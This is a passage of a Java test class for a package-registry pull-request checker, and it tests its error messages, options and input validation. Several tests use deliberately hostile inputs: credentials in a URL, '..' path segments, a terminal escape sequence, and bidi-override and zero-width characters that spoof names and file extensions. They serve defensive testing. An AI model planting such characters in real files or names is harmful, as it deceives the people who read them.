        assertEquals(ExitCode.FAILURE.code(), checkWithBaseUrl("https://deploy:s3cr3t@registry.example.test/"),
                err::toString);
        assertTrue(out.toString().endsWith("""

                registry.json
                  error   /baseUrl, line 3: the base URL holds a user or password, which every reader of the repository \
                sees and every client set up with this URL would copy
                          hint: give the URL without it, such as https://registry.example.test/, and let each client \
                keep its credentials in its own config (prompd login)
                1 error, 0 warnings
                """), out::toString);
        assertFalse(out.toString().contains("s3cr3t"), out::toString);
    }

    /** A base URL build --base-url refuses fails the pull request setting it, in the words of that refusal. */
    @Test
    void failsAPullRequestPuttingADotDotSegmentIntoTheBaseUrl() {
        assertEquals(ExitCode.FAILURE.code(), checkWithBaseUrl("https://registry.example.test/a/../r/"), err::toString);
        assertTrue(out.toString().endsWith("""

                registry.json
                  error   /baseUrl, line 3: the base URL must name its folder directly, without '.' or '..' segments \
                or empty ones ('//'), which one host resolves and another serves as written, not \
                'https://registry.example.test/a/../r/': use https://registry.example.test/r/
                          hint: write the registry's URL as clients are set up with it, as https://host/path/
                1 error, 0 warnings
                """), out::toString);
    }

    @Test
    void failsAPullRequestHidingBidiAndInvisibleCharactersInTheRegistrysOwnFiles() {
        repo.write("registry.json", """
                {"name": "Evil\\u001b]0;pwned\\u0007 Registry\\u202egnp.exe",
                 "baseUrl": "https://registry.example.test/", "git": "https://git.example.test/registry.git",
                 "maintainers": ["maintainer", "mallory\\u202e"]}
                """);
        repo.write("scopes.json", """
                {"scopes": {"@common": {"owners": ["alice"], "teams": ["core", "te\\u0007am"]}},
                 "teams": {"core": ["bob"], "te\\u0007am": ["al\\u202eice", "ca\\u202erl"]}}
                """);
        repo.meta("@common/base", """
                {"owners": ["iv\\u202ean", "x\\u200by"]}
                """);
        repo.commit("settings", TestRegistryRepo.MAINTAINER);

        assertEquals(ExitCode.FAILURE.code(), run(check(TestRegistryRepo.MAINTAINER)), out::toString);
        for (String refused : Set.of("/name, line 1: 'name' holds the control characters U+001B (^[)",
                "/name, line 1: 'name' holds the bidi control U+202E",
                "/maintainers/1, line 3: 'mallory<U+202E>' is not a GitHub login",
                "/scopes/@common/teams/1, line 1: 'scopes/@common/teams/1' holds the control character U+0007 (^G)",
                "/teams/te^Gam, line 2: the name of 'teams/te^Gam' holds the control character U+0007 (^G)",
                "/teams/te^Gam/0, line 2: 'al<U+202E>ice' is not a GitHub login",
                "/teams/te^Gam/1, line 2: 'ca<U+202E>rl' is not a GitHub login",
                "/owners/0, line 1: 'iv<U+202E>an' is not a GitHub login",
                "/owners/1, line 1: 'x<U+200B>y' is not a GitHub login")) {
            assertTrue(out.toString().contains(refused), () -> refused + " in " + out);
        }
    }

    @Test
    void formatJsonEqualsTheJsonFlag() {
        run(check("alice", "--format", "json"));
        String viaFormat = out.toString();
        out.getBuffer().setLength(0);
        run(check("alice", "--json"));

        assertEquals(viaFormat, out.toString());
    }

    @Test
    void unknownRevisionIsNotFound() {
        int exit = run("check", repo.root().toString(), "--base", "main", "--head", "no-such-branch", "--actor",
                "alice");

        assertEquals(ExitCode.NOT_FOUND.code(), exit);
        assertTrue(err.toString().contains("no-such-branch"), err::toString);
    }

    /** As git and prompd validate, the check finds the repository from a folder inside it, and says which it read. */
    @Test
    void aFolderInsideTheRepositoryChecksTheRepositoryAboveIt() {
        Path packages = repo.root().resolve("packages");

        int exit = run("check", packages.toString(), "--base", "main", "--head", "pr", "--actor", "alice");

        assertEquals(ExitCode.OK.code(), exit, err::toString);
        assertTrue(out.toString().startsWith("PASSED: registry check of "), out::toString);
        assertEquals("note: " + packages + " is inside the repository " + repo.root() + ", which the check reads\n",
                err.toString());
    }

    @Test
    void folderThatIsNoRepositoryIsNotFound() {
        assertEquals(ExitCode.NOT_FOUND.code(),
                run("check", folder.resolve("none").toString(), "--base", "a", "--head", "b", "--actor", "alice"));
    }

    @Test
    void helpListsOnlyTheExitCodesTheGeneratorUses() {
        assertEquals(ExitCode.OK.code(), run("check", "--help"));

        String help = out.toString();
        assertTrue(help.contains("Exit codes:") && help.contains("  4   Conflict"), help);
        assertFalse(help.contains("Network error") || help.contains("Integrity error"), help);
    }

    /** Worded as every command of both tools that groups others words it. */
    @Test
    void noCommandIsAUsageErrorNamingTheCommands() {
        assertEquals(ExitCode.USAGE.code(), run());
        assertEquals("error: a subcommand is required: check, build or serve\nhint: see 'prompd-registry --help'\n",
                err.toString());
    }

    @Test
    void missingBaseIsAUsageError() {
        assertEquals(ExitCode.USAGE.code(), run("check", repo.root().toString(), "--actor", "alice"));
        assertEquals("error: missing required option: '--base=REV'\nhint: see 'prompd-registry check --help'\n",
                err.toString());
    }

    /**
     * Without --actor every pull request that changes anything fails, so the usage line shows it required; none comes
     * from GITHUB_ACTOR, who triggered the run, not always the pull request's author.
     */
    @Test
    void missingActorIsAUsageErrorWhateverGitHubActorSays() {
        CliContext onGitHub = new CliContext(Map.of("GITHUB_ACTOR", "alice"), false, CliContext.PIPED.workingFolder(),
                CliContext.PIPED.clock());

        assertEquals(ExitCode.USAGE.code(), PrompdRegistryCommand.commandLine(new PrintWriter(out, true),
                new PrintWriter(err, true), onGitHub).execute("check", repo.root().toString(), "--base", "main"));
        assertEquals("error: missing required option: '--actor=LOGIN'\nhint: see 'prompd-registry check --help'\n",
                err.toString());
    }

    /** The head is the commit checked out unless given, as CONTRIBUTING.md's --head HEAD always gave it. */
    @Test
    void theHeadIsHeadWhenNotGiven() {
        assertEquals(ExitCode.OK.code(), run("check", repo.root().toString(), "--base", "main", "--actor", "alice"),
                err::toString);
        assertTrue(out.toString().startsWith("PASSED: registry check of " + RegistryRepository.shortId(repo.head()
                .name())), out::toString);
    }

    @Test
    void helpShowsTheActorRequiredAndTheHeadDefault() {
        assertEquals(ExitCode.OK.code(), run("check", "--help"));

        String help = out.toString().replaceAll("\\s+", " ");
        assertTrue(help.contains(" --actor=LOGIN ") && !help.contains("[--actor=LOGIN]"), help);
        assertTrue(help.contains("[--head=REV]"), help);
        assertTrue(help.contains("The pull request's commit (default: HEAD, the commit checked out)."), help);
    }

    @Test
    void aMistypedRevisionOptionIsReportedAsUnknownNotAsMissing() {
        assertEquals(ExitCode.USAGE.code(), run("check", repo.root().toString(), "--baes", "main", "--head", "pr",
                "--actor", "alice"));
        assertEquals("error: unknown option '--baes'\nhint: did you mean --base? see 'prompd-registry check"
                + " --help'\n", err.toString());
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " "})
    void anEmptyRevisionIsAUsageErrorNamingItsOption(String empty) {
        assertEquals(ExitCode.USAGE.code(), run("check", repo.root().toString(), "--base", empty, "--head", "HEAD",
                "--actor", "alice"));
        assertEquals("error: --base is empty; give a branch, tag or commit, such as --base HEAD (a variable that is not"
                + " set gives an empty one)\nhint: see 'prompd-registry check --help'\n", err.toString());
        err.getBuffer().setLength(0);

        assertEquals(ExitCode.USAGE.code(), run("check", repo.root().toString(), "--base", "main", "--head", empty,
                "--actor", "alice"));
        assertTrue(err.toString().startsWith("error: --head is empty; give a branch, tag or commit"), err::toString);
        assertEquals("", out.toString());
    }

    @Test
    void unknownFormatIsAUsageError() {
        assertEquals(ExitCode.USAGE.code(), run(check("alice", "--format", "html")));
        assertTrue(err.toString().contains("use text, markdown or json"), err::toString);
    }

    /** As prompd's --resolution, and cargo's, git's and npm's options: the words as the help gives them. */
    @Test
    void aFormatInCapitalsIsAUsageErrorSayingToWriteItInLowerCase() {
        assertEquals(ExitCode.USAGE.code(), run(check("alice", "--format=MARKDOWN")));
        assertEquals("error: invalid value for --format: 'MARKDOWN' is not a format; use text,"
                + " markdown or json, in lower case\nhint: see 'prompd-registry check --help'\n", err.toString());
        assertEquals("", out.toString());
    }

    @Test
    void contradictoryFormatsAreAUsageErrorInJsonWhateverTheOrder() throws Exception {
        assertEquals(ExitCode.USAGE.code(), run(check("alice", "--json", "--format", "markdown")));
        assertEquals(ExitCode.USAGE.code(),
                Json.reader().readTree(out.toString()).path("error").path("exitCode").asInt());
        assertEquals("error: --json and --format markdown cannot be used together; give one of them\nhint: see"
                + " 'prompd-registry check --help'\n", err.toString(), "as prompd tree words --json with --dot");
        out.getBuffer().setLength(0);
        assertEquals(ExitCode.USAGE.code(), run(check("alice", "--format", "text", "--json")));
        assertEquals(ExitCode.USAGE.code(),
                Json.reader().readTree(out.toString()).path("error").path("exitCode").asInt());
    }

    @Test
    void worksOnABareClone() {
        Path bare = repo.bareClone(folder.resolve("bare.git"));

        assertEquals(ExitCode.OK.code(),
                run("check", bare.toString(), "--base", "main", "--head", "pr", "--actor", "alice"),
                err::toString);
    }
}
